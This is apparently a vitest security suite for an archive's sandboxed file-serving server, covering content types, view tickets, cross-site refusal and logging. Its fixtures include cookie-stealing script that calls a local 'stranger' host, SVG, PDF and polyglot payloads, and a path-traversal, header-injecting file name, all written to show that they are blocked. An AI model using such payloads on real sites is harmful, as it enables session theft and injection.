/**
 * Archived bytes have an origin of their own. Whatever is handed in, nothing of it runs there and no cookie is touched; an address
 * works for whom it was given to, for a minute, and for nobody when they are out; each look is in the history, once.
 */
import { once } from 'node:events';
import { chmod, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { connect, type AddressInfo } from 'node:net';
import { pino } from 'pino';
import sharp from 'sharp';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { addAgency, createKey, endSession, letGo, revokeKey, signedIn } from '#agency/agency.ts';
import { buildApp, openDoors } from '#api/api.ts';
import { cloneDatabase, simpleReport, type TestFile } from '../support/archive.ts';
import { openConsoleScene, type ConsoleScene } from '../support/console-scene.ts';
import { rows as chosen } from '../support/extent.ts';
import { holdfastWith } from '../support/holdfast.ts';
import { checkPage, shoot } from '../support/page-check.ts';
import { colleague, type Colleague } from '../support/people.ts';
import { DESK, PHONE, type Visitor } from '../support/visitor.ts';

let scene: ConsoleScene;
let custodian: Colleague;
let recordId: string;
/** Somebody else's site, with pages that try to use what is ours; it hears whatever runs. */
let stranger: Server;
let strange: string;
const heard: string[] = [];
const logged: string[] = [];

/** Tells the stranger that it ran, and what it could read. */
const script = (what: string): string =>
  `document.cookie='ran=${what}';new Image().src='${strange}/ran?${what}&'+encodeURIComponent(document.cookie)`;
const page = (what: string): string =>
  `<!doctype html><title>x</title><body onload="${script(`${what}-onload`)}"><script>${script(what)}</script>`;

/** Name, what it claims to be, its bytes; and as what it is shown: null for a file to keep. */
let files: readonly (readonly [string, string, Buffer, string | null])[];

beforeAll(async () => {
  stranger = createServer((request, response) => {
    const url = request.url ?? '';
    if (url.startsWith('/ran')) heard.push(url);
    const content = Buffer.from(decodeURIComponent(url.split('?')[1] ?? ''), 'utf8');
    response.writeHead(200, { 'content-type': 'text/html' }).end(url.startsWith('/serve') ? content : '');
  }).listen(0, '127.0.0.1');
  await once(stranger, 'listening');
  strange = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;
  scene = await openConsoleScene({
    named: true,
    adapt: (system) => ({
      ...system,
      log: pino({ level: 'trace' }, { write: (line: string) => void logged.push(line) }),
    }),
  });
  const { archive } = scene;
  custodian = await colleague(archive, ['custodian']);
  const red = sharp({ create: { width: 40, height: 30, channels: 3, background: 'red' } });
  const [png, jpeg, webp, gif] = await Promise.all([
    red.clone().png().toBuffer(),
    red.clone().jpeg().toBuffer(),
    red.clone().webp().toBuffer(),
    red.clone().gif().toBuffer(),
  ]);
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script('svg')}"><script>${script('svg-script')}</script></svg>`;
  const pdf = `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL\\('${strange}/ran?pdf'\\))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`;
  files = [
    ['a.png', 'image/png', png, 'image/png'],
    ['a.jpg', 'image/jpeg', jpeg, 'image/jpeg'],
    ['a.webp', 'image/webp', webp, 'image/webp'],
    ['a.gif', 'image/gif', gif, 'image/gif'],
    ['a.txt', 'text/plain', Buffer.from('Grüße & <b>words</b>'), 'text/plain; charset=utf-8'],
    ['page.html', 'text/html', Buffer.from(page('html')), null],
    ['page.png', 'image/png', Buffer.from(page('html-as-png')), null],
    ['page.txt', 'text/plain', Buffer.from(page('html-as-text')), null],
    [
      'late.txt',
      'text/plain',
      Buffer.from(`Words first.\n${page('html-late')}`),
      'text/plain; charset=utf-8',
    ],
    ['drawing.svg', 'image/svg+xml', Buffer.from(svg), null],
    ['paper.pdf', 'application/pdf', Buffer.from(pdf), null],
    [
      'page.mht',
      'multipart/related',
      Buffer.from(`MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page('mht')}`),
      'text/plain; charset=utf-8',
    ],
    ['both.gif', 'image/gif', Buffer.from(`GIF89a=0;${script('gif-js')}`), 'image/gif'],
    ['tail.png', 'image/png', Buffer.concat([png, Buffer.from(page('png-html'))]), 'image/png'],
    ['../..\\"\r\nx: y‮gnp.exe', 'application/octet-stream', Buffer.from([0, 1, 2, 3]), null],
  ];
  const handedIn = files.map(([name, type, bytes]): TestFile => ({
    name: encodeURIComponent(name),
    type,
    bytes,
  }));
  recordId = (await archive.report(simpleReport(), handedIn)).body.recordId;
  for (const [i, [name]] of files.entries())
    await archive.sql.query('update artifact set original_name = $3 where record_id = $1 and n = $2', [
      recordId,
      i + 2,
      name,
    ]);
  await archive.work();
  await archive.until(recordId, (receipt) => receipt.status === 'complete');
  await archive.stopWork();
}, 120_000);
afterAll(async () => {
  await scene?.close();
  stranger.close();
});
beforeEach(() => {
  heard.length = 0;
});

interface Who {
  readonly cookie?: string;
  readonly key?: string;
}
/** The address of one look, as the page's script gets it. */
async function look(n: number, { cookie, key }: Who = custodian, record = recordId): Promise<string> {
  const answer = await scene.archive.app.inject({
    method: 'POST',
    url: `/v1/records/${record}/artifacts/${n}/looks`,
    headers: {
      host: new URL(scene.origin).host,
      'sec-fetch-site': 'same-origin',
      ...(key === undefined ? { cookie: cookie ?? '' } : { authorization: `Bearer ${key}` }),
    },
  });
  expect(answer.statusCode, answer.body).toBe(201);
  return answer.json<{ address: string }>().address;
}
const views = async (): Promise<number> =>
  (
    await scene.archive.sql.query(
      `select 1 from event where record_id = $1 and type = 'view.opened' and body->>'what' = 'artifact'`,
      [recordId],
    )
  ).rowCount ?? 0;
async function signedInAt(viewport = DESK): Promise<Visitor> {
  const at = await scene.visitor({ viewport });
  const cookie = { name: 'holdfast-session', value: custodian.token, domain: 'localhost', httpOnly: true };
  await at.page.browserContext().setCookie(cookie);
  return at;
}

/** On every answer, whatever it is. */
const ALWAYS = {
  'x-content-type-options': 'nosniff',
  'referrer-policy': 'no-referrer',
  'cache-control': 'no-store',
  'cross-origin-resource-policy': 'same-origin',
  'accept-ranges': 'none',
};
const headersOf = (answer: Response): Record<string, string> => Object.fromEntries(answer.headers);
const sandboxed = (ancestors: string): string =>
  `sandbox; default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors ${ancestors}`;

describe('what goes out', () => {
  test('each file by a type that its own bytes have, or as a file to keep, and always sandboxed', async () => {
    for (const [i, [name, , bytes, shown]] of files.entries()) {
      const answer = await fetch(await look(i + 2), { headers: { cookie: custodian.cookie } });
      expect(headersOf(answer), name).toMatchObject({
        ...ALWAYS,
        'content-type': shown ?? 'application/octet-stream',
        'content-length': String(bytes.length),
        'content-security-policy': sandboxed(scene.origin),
        'content-disposition': expect.stringMatching(
          shown === null ? /^attachment; filename="/ : /^inline; filename="/,
        ) as string,
      });
      expect(headersOf(answer), name).not.toHaveProperty('set-cookie');
      expect(Buffer.from(await answer.arrayBuffer()).equals(bytes), name).toBe(true);
    }
    expect(files.length).toBe(15);
  });

  test('a name that would lead elsewhere, break the header or hide what it is becomes a harmless one', async () => {
    const { headers } = await fetch(await look(files.length + 1));
    const said = headers.get('content-disposition') ?? '';
    expect(said).toBe(
      `attachment; filename="${recordId.slice(0, 8)}-file-16 x y gnp.exe.bin"; filename*=UTF-8''${recordId.slice(0, 8)}-file-16%20x%20y%20gnp.exe.bin`,
    );
  });

  test('nothing of it runs, whoever opens it where, and no cookie comes to be', async () => {
    const at = await signedInAt();
    // What is to be seen not to happen does happen where nobody prevents it.
    await at.page.goto(`${strange}/serve?${encodeURIComponent(page('control'))}`);
    await expect.poll(() => heard.length).toBe(2);
    heard.length = 0;
    const before = await at.page.browserContext().cookies();
    expect(before.map(({ name }) => name)).toContain('holdfast-session');
    for (const [i, [name, , , shown]] of files.entries()) {
      const opened = await at.page.goto(await look(i + 2), { waitUntil: 'load' }).then(
        () => 'shown',
        (error: unknown) => String(error),
      );
      // What is not shown is kept as a file, and there is no page.
      if (shown === null) expect(opened, name).toMatch(/ERR_ABORTED/);
      else expect(opened, name).toBe('shown');
    }
    // Inside a page of the console's, as far as its policy lets anybody.
    await at.goTo(`/records/${recordId}`);
    for (const [i] of files.entries()) {
      const address = await look(i + 2);
      await at.inPage(`(async () => {
        for (const [tag, at] of [['script', 'src'], ['iframe', 'src'], ['object', 'data'], ['embed', 'src'], ['img', 'src']]) {
          const element = document.createElement(tag);
          element[at] = '${address}';
          document.body.append(element);
        }
        await new Promise((done) => setTimeout(done, 50));
      })()`);
    }
    await new Promise((done) => setTimeout(done, 500));
    expect(heard).toEqual([]);
    expect(await at.page.browserContext().cookies()).toEqual(before);
    await at.page.browserContext().close();
  }, 120_000);

  test('no other site can frame it, run it, show it or read it, with a ticket in its hand', async () => {
    const at = await signedInAt();
    const [picture, both] = [await look(2), await look(14)];
    await at.page.goto(`${strange}/serve?${encodeURIComponent('<!doctype html><title>Strange</title>')}`);
    const tried = await at.inPage(`(async () => {
      const once = (element, name, address) => new Promise((done) => {
        element.addEventListener('load', () => done('loaded'));
        element.addEventListener('error', () => done('refused'));
        element[name] = address;
        document.body.append(element);
      });
      return [
        await once(new Image(), 'src', '${picture}'),
        await once(Object.assign(new Image(), { crossOrigin: 'anonymous' }), 'src', '${picture}'),
        await once(document.createElement('script'), 'src', '${both}'),
        await fetch('${picture}').then(() => 'read', () => 'refused'),
        await fetch('${picture}', { credentials: 'include' }).then(() => 'read', () => 'refused'),
        await fetch('${picture}', { mode: 'no-cors' }).then(() => 'read', () => 'refused'),
      ];
    })()`);
    expect(tried).toEqual(Array.from({ length: 6 }, () => 'refused'));
    await at.inPage(
      `document.body.append(Object.assign(document.createElement('iframe'), { src: '${picture}' }))`,
    );
    await expect.poll(() => at.said.some((line) => /frame-ancestors/.test(line))).toBe(true);
    expect(heard).toEqual([]);
    await at.page.browserContext().close();
  });
});

describe('a ticket', () => {
  test('counts again within its minute, by HEAD and by GET, and is one look in the history', async () => {
    const before = await views();
    const address = await look(2);
    const head = await fetch(address, { method: 'HEAD' });
    expect([head.status, await head.text(), head.headers.get('content-type')]).toEqual([
      200,
      '',
      'image/png',
    ]);
    for (let i = 0; i < 3; i += 1) expect((await fetch(address)).status).toBe(200);
    const part = await fetch(address, { headers: { range: 'bytes=0-3' } });
    expect([part.status, (await part.arrayBuffer()).byteLength]).toEqual([200, files[0]?.[2].length]);
    expect(await views()).toBe(before + 1);
  });

  test('is given to nobody because a link elsewhere led there, and for no question about a file', async () => {
    const { archive } = scene;
    const who = await colleague(archive, ['custodian']);
    const before = await views();
    const ask = async (method: 'GET' | 'HEAD', url: string, site: string) =>
      await archive.app.inject({
        method,
        url,
        headers: { cookie: who.cookie, 'sec-fetch-site': site, accept: 'text/html' },
      });
    for (const url of [`/records/${recordId}/files/2`, `/v1/records/${recordId}/artifacts/2`]) {
      for (const site of ['cross-site', 'same-site'])
        expect((await ask('GET', url, site)).statusCode, `${url} ${site}`).toBe(403);
      expect((await ask('HEAD', url, 'same-origin')).statusCode).toBe(405);
      expect(await views()).toBe(before);
    }
    for (const site of ['same-origin', 'none'])
      expect((await ask('GET', `/records/${recordId}/files/2`, site)).statusCode).toBe(303);
    expect(await views()).toBe(before + 2);
  });

  test('is kept as a digest, for a minute, and those that are over go with the next', async () => {
    const token = (await look(2)).split('/').at(-1) ?? '';
    expect(Buffer.from(token, 'base64url')).toHaveLength(32);
    const { sql } = scene.archive;
    const { rows } = await sql.query<{ text: string; ms: number }>(
      `select t::text as text, extract(epoch from expires_at - given_at)::int as ms from view_ticket t where hash = sha256($1)`,
      [token],
    );
    expect(rows).toEqual([{ text: expect.any(String) as string, ms: 60 }]);
    expect(rows[0]?.text).not.toContain(token);
    await sql.query(
      `update view_ticket set given_at = now() - interval '2 minutes', expires_at = now() - interval '1 minute'`,
    );
    await look(2);
    expect((await sql.query('select 1 from view_ticket')).rowCount).toBe(1);
    await expect(
      sql.query(`update view_ticket set expires_at = given_at + interval '6 minutes'`),
    ).rejects.toThrow('check constraint');
  });

  test('that is none, for whatever reason, is answered like any other address here', async () => {
    const { archive } = scene;
    const { db, now } = archive.system;
    const nothing = await fetch(`${scene.content}/`);
    const said = await nothing.text();
    expect(said).toMatch(/^There is nothing here, or not any more/);
    const spanish = await fetch(`${scene.content}/`, { headers: { 'accept-language': 'es-MX,es;q=0.9' } });
    expect([spanish.headers.get('content-language'), await spanish.text()]).toEqual([
      'es',
      expect.stringMatching(/^Aquí no hay nada, o ya no lo hay/),
    ]);
    expect([nothing.status, headersOf(nothing)]).toMatchObject([
      404,
      {
        ...ALWAYS,
        'content-type': 'text/plain; charset=utf-8',
        'content-security-policy': sandboxed("'none'"),
      },
    ]);
    const good = await look(2);
    const someone = async (): Promise<Colleague> => await colleague(archive, ['custodian']);
    const given = async (who: Who, then: () => Promise<unknown>): Promise<string> => {
      const address = await look(2, who);
      expect((await fetch(address)).status, 'before').toBe(200);
      await then();
      return address;
    };
    const [out, left, idle, moved, expired] = await Promise.all([
      someone(),
      someone(),
      someone(),
      someone(),
      someone(),
    ]);
    const key = await createKey(db, { agencyId: 'rivertown', role: 'custodian', label: 'x' });
    const ways: Record<string, string> = {
      'never given': `${scene.content}/look/${'A'.repeat(43)}`,
      tampered: good.replace(/.$/, (last) => (last === 'A' ? 'E' : 'A')),
      'with a tail': `${good}/`,
      'with a question': `${good}?x`,
      'in capitals': good.replace('/look/', '/LOOK/'),
      'a page of the console': `${scene.content}/records/${recordId}`,
      'a call of the console': `${scene.content}/v1/records/${recordId}/artifacts/2`,
      'of a session that was signed out': await given(out, async () => {
        const who = await signedIn(db, out.token);
        await db.inAgency(
          'rivertown',
          async (at) => await endSession(at, who?.caller.sessionId ?? '', 'signed-out', now()),
        );
      }),
      'of somebody who left': await given(
        left,
        async () =>
          await db.inAgency('rivertown', async (at) => await letGo(at, left.personId, 'test', now())),
      ),
      'of a session that was left alone': await given(
        idle,
        async () =>
          await archive.sql.query(
            `update session set seen_at = now() - interval '31 minutes' where person_id = $1`,
            [idle.personId],
          ),
      ),
      'of somebody whose session was ended': await given(
        moved,
        async () =>
          await archive.sql.query(
            `update session set ended_at = now(), ended_because = 'roles-changed' where person_id = $1`,
            [moved.personId],
          ),
      ),
      'that is over': await given(
        expired,
        async () =>
          await archive.sql.query(
            `update view_ticket t set expires_at = now() from session s where s.id = t.session_id and s.person_id = $1`,
            [expired.personId],
          ),
      ),
      'of a revoked key': await given(
        { key: key.key },
        async () => await revokeKey(db, 'rivertown', key.keyId, now()),
      ),
    };
    const same = (headers: Record<string, string>): Record<string, string> => ({ ...headers, date: '' });
    for (const [why, address] of Object.entries(ways)) {
      // With the cookie of somebody who may, which counts for nothing here.
      const answer = await fetch(address, { headers: { cookie: custodian.cookie } });
      expect([answer.status, await answer.text()], why).toEqual([404, said]);
      expect(same(headersOf(answer)), why).toEqual(same(headersOf(nothing)));
    }
    for (const method of ['POST', 'PUT', 'DELETE', 'OPTIONS', 'PATCH']) {
      const answer = await fetch(good, { method });
      expect([answer.status, await answer.text()], method).toEqual([404, said]);
    }
    expect((await fetch(good)).status, 'the good one was good').toBe(200);
  });

  test('is given for records of one’s own agency alone, and then nothing is entered', async () => {
    const { archive } = scene;
    await addAgency(archive.system.db, { id: 'lakeside', name: 'City of Lakeside', zone: 'America/Chicago' });
    const theirs = await colleague(archive, ['custodian', 'moderator'], 'lakeside');
    const before = await views();
    for (const [method, url] of [
      ['POST', `/v1/records/${recordId}/artifacts/2/looks`],
      ['GET', `/v1/records/${recordId}/artifacts/2`],
      ['GET', `/records/${recordId}/files/2`],
      ['POST', `/records/${recordId}/files/2`],
    ] as const) {
      const headers = { cookie: theirs.cookie, 'sec-fetch-site': 'same-origin' };
      expect((await archive.app.inject({ method, url, headers })).statusCode, `${method} ${url}`).toBe(404);
    }
    expect(await views()).toBe(before);
    // From a page that is not ours nothing is asked for in anybody's name.
    const foreign = await archive.app.inject({
      method: 'POST',
      url: `/records/${recordId}/files/2`,
      headers: { cookie: custodian.cookie, 'sec-fetch-site': 'cross-site' },
    });
    expect(foreign.statusCode).toBe(403);
    expect(await views()).toBe(before);
    // A ticket of another agency's session or file is nothing that the database would keep.
    const { rows } = await archive.sql.query<{ id: string }>('select id from session where person_id = $1', [
      theirs.personId,
    ]);
    const forged = `insert into view_ticket (agency_id, id, hash, record_id, n, session_id, shows, console, expires_at)
                    values ($1, gen_random_uuid(), sha256('y'), $2, 2, $3, true, 'http://x', now())`;
    for (const agency of ['lakeside', 'rivertown'])
      await expect(archive.sql.query(forged, [agency, recordId, rows[0]?.id])).rejects.toThrow('foreign key');
  });
});

describe('the content server', () => {
  test('answers what is no HTTP in the same way, and says nothing of what it was asked in its log', async () => {
    const socket = connect(Number(new URL(scene.content).port), '127.0.0.1');
    let raw = '';
    socket.on('data', (chunk: Buffer) => (raw += chunk.toString('latin1')));
    socket.write('GET / HTTP/9.9\r\nnonsense\r\n\r\n');
    await once(socket, 'close');
    expect(raw).toMatch(/^HTTP\/1\.1 400 /);
    expect(raw).toContain(`content-security-policy: ${sandboxed("'none'")}\r\n`);
    const token = (await look(3)).split('/').at(-1) ?? '';
    await fetch(`${scene.content}/look/${token}`, {
      headers: { cookie: custodian.cookie, 'x-word': 'quokka' },
    });
    await expect.poll(() => logged.some((line) => line.includes('"content.request"'))).toBe(true);
    for (const secret of [token, custodian.token, 'quokka', 'a.jpg'])
      expect(
        logged.filter((line) => line.includes(secret)),
        secret,
      ).toEqual([]);
  });

  test('hands over nothing that is not what was received, and enters it as found by whoever looked', async () => {
    const { archive } = scene;
    const [name, type, bytes] = ['b.txt', 'text/plain', Buffer.from('what was received')];
    const sent = await archive.report(simpleReport({ text: 'another' }), [{ name, type, bytes }]);
    const { recordId: id } = sent.body;
    const address = await look(2, custodian, id);
    expect(await (await fetch(address)).text()).toBe('what was received');
    const staged = await archive.sql.query<{ staged: string }>(
      'select staged from artifact where record_id = $1 and n = 2',
      [id],
    );
    const path = archive.system.staging.path(staged.rows[0]?.staged ?? '');
    await chmod(path, 0o600);
    await writeFile(path, 'what was RECEIVED');
    const answer = await fetch(address);
    expect(answer.status).toBe(502);
    expect(answer.headers.get('content-security-policy')).toBe(sandboxed("'none'"));
    expect(await answer.text()).not.toContain('RECEIVED');
    const { rows } = await archive.sql.query<{ actor: string }>(
      `select actor from event where record_id = $1 and type = 'fixity.failed'`,
      [id],
    );
    expect(rows).toEqual([{ actor: `person:${custodian.personId}` }]);
  });

  test('of two installations on one machine: a port that is taken is said, with the setting that changes it', async () => {
    const { archive } = scene;
    const port = Number(new URL(scene.content).port);
    const second = await buildApp(archive.system);
    await expect(openDoors(second, { host: '127.0.0.1', port: 0, contentPort: port })).rejects.toMatchObject({
      code: 'port-taken',
      message: expect.stringMatching(new RegExp(`^Port ${port} is taken .* HOLDFAST_CONTENT_PORT`)) as string,
    });
    await second.close();
    const third = await buildApp(archive.system);
    const own = Number(new URL(scene.origin).port);
    await expect(openDoors(third, { host: '127.0.0.1', port: own, contentPort: 0 })).rejects.toMatchObject({
      message: expect.stringContaining('HOLDFAST_PORT') as string,
    });
    await third.close();
    const clone = await cloneDatabase();
    for (const verb of ['api', 'up']) {
      const ended = await holdfastWith(
        {
          DATABASE_URL: clone.url,
          HOLDFAST_DATA: `${archive.dataDir}/second`,
          HOLDFAST_PORT: '0',
          HOLDFAST_CONTENT_PORT: String(port),
          CHROMIUM_PATH: '/nonexistent',
        },
        verb,
      );
      expect([ended.code, ended.err], verb).toEqual([
        5,
        expect.stringContaining('HOLDFAST_CONTENT_PORT. [port-taken]'),
      ]);
    }
    await clone.drop();
  }, 120_000);
});

describe('somebody at the record’s page', () => {
  test.each(chosen([PHONE, DESK], (size) => size === PHONE))(
    'by keyboard alone, at $width px: shows, enlarges and covers a picture',
    async (size) => {
      const at = await signedInAt(size);
      await at.goTo(`/records/${recordId}`);
      const before = await views();
      const focused = async (): Promise<string> =>
        String(
          await at.inPage(
            `(document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.textContent ?? '').replaceAll(/\\s+/g, ' ').trim()`,
          ),
        );
      const tabTo = async (what: RegExp): Promise<void> => {
        for (let i = 0; i < 80; i += 1) {
          await at.page.keyboard.press('Tab');
          if (what.test(await focused())) return;
        }
        throw new Error(`Nothing that is called ${what.source} was reached.`);
      };
      await tabTo(/^Show File handed in, file 2$/);
      await at.page.keyboard.press('Enter');
      await at.shown('#file-2 figure img');
      expect(await focused()).toBe('Cover File handed in, file 2');
      expect(await at.isShown('#file-2 .hf-cover')).toBe(false);
      expect(
        await at.page.$eval('#file-2 img', (image) => new URL(image.getAttribute('src') ?? '').origin),
      ).toBe(scene.content);
      await at.page.keyboard.down('Shift');
      await at.page.keyboard.press('Tab');
      await at.page.keyboard.up('Shift');
      expect(await focused()).toBe('Enlarge file 2');
      await at.page.keyboard.press('Space');
      expect(await at.page.$eval('#file-2 .hf-zoom', (zoom) => zoom.getAttribute('aria-pressed'))).toBe(
        'true',
      );
      await checkPage(at, 'record-enlarged');
      await at.page.keyboard.press('Tab');
      await at.page.keyboard.press('Enter');
      expect([await at.isShown('#file-2 figure'), await at.isShown('#file-2 .hf-cover')]).toEqual([
        false,
        true,
      ]);
      expect(await views()).toBe(before + 1);
      expect(at.complaints()).toEqual([]);
      await at.page.browserContext().close();
    },
  );

  test('opens a text in a tab of its own, where it is text', async () => {
    const at = await signedInAt();
    await at.goTo(`/records/${recordId}`);
    const href = await at.page.$eval('#file-6 a[target]', (link) => link.getAttribute('href') ?? '');
    const before = await views();
    await at.page.goto(scene.origin + href);
    expect(new URL(at.page.url()).origin).toBe(scene.content);
    await shoot(at, 'content-text');
    const shown = await fetch(at.page.url());
    expect(await shown.text()).toBe('Grüße & <b>words</b>');
    expect(await views()).toBe(before + 1);
    // A picture too, in the place of a page of ours: with a sandbox around it the browser still shows it.
    await at.page.goto(`${scene.origin}/records/${recordId}/files/2`);
    expect(await at.page.title()).toContain('40×30');
    await shoot(at, 'content-picture');
    // Of what is a page of script nothing is offered but to keep it.
    await at.goTo(`/records/${recordId}`);
    expect(await at.count('#file-7 .hf-file-ways a')).toBe(1);
    expect(await at.count('#file-7 form')).toBe(0);
    await at.page.browserContext().close();
  });

  test('is told when the picture does not come, and may ask again', async () => {
    const at = await signedInAt();
    await at.goTo(`/records/${recordId}`);
    await at.page.setRequestInterception(true);
    let broken = true;
    at.page.on(
      'request',
      (request) =>
        void (broken && request.url().startsWith(scene.content) ? request.abort() : request.continue()),
    );
    await at.press('#file-2 button');
    await at.reads('#file-2 .usa-error-message', 'The picture did not come');
    broken = false;
    await at.press('#file-2 button');
    await at.shown('#file-2 figure img');
    expect(await at.count('#file-2 .usa-error-message')).toBe(0);
    // And when they are out meanwhile: no look, and a sentence.
    await scene.archive.sql.query(
      `update session set ended_at = now(), ended_because = 'revoked' where person_id = $1`,
      [custodian.personId],
    );
    await at.press('#file-3 button');
    await at.reads('#file-3 .usa-error-message', 'You are not signed in any more');
    await at.page.browserContext().close();
  });
});
